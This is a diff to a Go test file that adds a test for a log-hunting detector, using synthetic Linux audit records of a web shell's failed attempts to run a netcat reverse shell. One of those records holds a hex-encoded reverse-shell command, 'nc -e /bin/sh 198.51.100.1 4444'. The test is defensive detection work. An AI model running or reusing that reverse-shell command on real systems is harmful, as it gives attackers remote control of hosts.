@@ -3,6 +3,7 @@ package hunt_test
 import (
 	"bytes"
 	"compress/gzip"
+	"encoding/hex"
 	"fmt"
 	"iter"
 	"os"
@@ -521,5 +522,45 @@ func TestAccessLogWithErrorLines(t *testing.T) {
 	}), func(map[string]any) {}, nil)
 	if err != nil || st.Errors != 0 || datasets["apache.access"] != 7 || datasets["apache.error"] != 2 {
 		t.Errorf("err %v, %d unreadable, datasets %v; want 7 apache.access and 2 apache.error", err, st.Errors, datasets)
+	}
+}
+
+// A web shell's `sh -c 'nc ...'` on a host without nc: dash tries execve in
+// each folder of PATH and each attempt fails. Audit logs record each one
+// with a start's shape (event.type start, event.outcome failure, the caller
+// as the process), and none is a process start: no alert, while the
+// successful start of a shell that follows still raises one.
+func TestFailedExecveIsNoStart(t *testing.T) {
+	title := strings.ToUpper(hex.EncodeToString([]byte("sh\x00-c\x00nc -e /bin/sh 198.51.100.1 4444")))
+	var b strings.Builder
+	for i, dir := range []string{"/usr/local/sbin", "/usr/local/bin", "/usr/sbin", "/usr/bin", "/sbin", "/bin"} {
+		id := fmt.Sprintf("1795633400.%d:%d", 100+i, 100+i)
+		fmt.Fprintf(&b, `type=SYSCALL msg=audit(%s): arch=c000003e syscall=59 success=no exit=-2 a0=1 a1=2 a2=3 a3=0 items=1 ppid=500 pid=501 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="sh" exe="/usr/bin/dash" key="exec"
+type=CWD msg=audit(%[1]s): cwd="/var/www/html/uploads"
+type=PATH msg=audit(%[1]s): item=0 name="%s/nc" nametype=UNKNOWN cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0
+type=PROCTITLE msg=audit(%[1]s): proctitle=%s
+`, id, dir, title)
+	}
+	b.WriteString(`type=SYSCALL msg=audit(1795633401.000:200): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=500 pid=502 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="sh" exe="/usr/bin/dash" key="exec"
+type=EXECVE msg=audit(1795633401.000:200): argc=3 a0="sh" a1="-c" a2="id"
+type=CWD msg=audit(1795633401.000:200): cwd="/var/www/html/uploads"
+type=PATH msg=audit(1795633401.000:200): item=0 name="/bin/sh" inode=1 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0
+type=PROCTITLE msg=audit(1795633401.000:200): proctitle=7368002D63006964
+type=SYSCALL msg=audit(1795633402.000:201): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=500 pid=503 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm="true" exe="/usr/bin/true" key="exec"
+`)
+	path := filepath.Join(t.TempDir(), "audit.log")
+	if err := os.WriteFile(path, []byte(b.String()), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	det, _ := detector.New(config.Default())
+	var alerts []string
+	st, err := hunt.Run([]string{path}, det, func(a map[string]any) {
+		alerts = append(alerts, detection.LookupString(a, "process.command_line"))
+	}, nil)
+	if err != nil || st.Events != 8 || st.Errors != 0 {
+		t.Fatalf("err %v, stats %+v", err, st)
+	}
+	if len(alerts) != 1 || alerts[0] != "sh -c id" {
+		t.Errorf("alerts %q; want one, for the shell that started (sh -c id), none for the 6 failed execve", alerts)
 	}
 }
